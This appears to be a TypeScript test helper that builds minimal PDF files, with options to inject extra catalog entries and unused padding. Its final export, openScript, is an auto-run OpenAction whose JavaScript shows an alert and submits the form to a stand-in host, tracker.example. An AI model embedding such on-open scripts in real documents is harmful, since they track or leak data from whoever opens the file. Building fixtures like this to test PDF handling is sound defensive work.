/** PDF files, made of their parts: pages with a text and a red square, and whatever else a test puts into them. */

interface PdfPage {
  /** In points. */
  readonly width?: number;
  readonly height?: number;
  readonly text: string;
}

interface PdfParts {
  /** More entries of the catalog, such as an action that would run a script. */
  readonly catalog?: string;
  /** Bytes of an object that no page needs. */
  readonly unusedBytes?: number;
}

/** Makes a file. */
export function pdf(pages: readonly PdfPage[], { catalog = '', unusedBytes = 0 }: PdfParts = {}): Uint8Array {
  const kids = pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages.flatMap(({ width = 400, height = 300, text }, at) => {
      const drawn = `1 0 0 rg 100 100 50 50 re f 0 0 0 rg BT /F1 24 Tf 40 ${height - 60} Td (${text}) Tj ET`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents ${5 + at * 2} 0 R ` +
          '/Resources << /Font << /F1 3 0 R >> >> >>',
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ];
    }),
    `<< /Length ${unusedBytes} >>\nstream\n${'x'.repeat(unusedBytes)}\nendstream`,
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = file.length;
  const entries = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return new TextEncoder().encode(file);
}

/** An action that would run a script when the file is opened. */
export const openScript =
  '/OpenAction << /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("https://tracker.example/"\\)) >>';
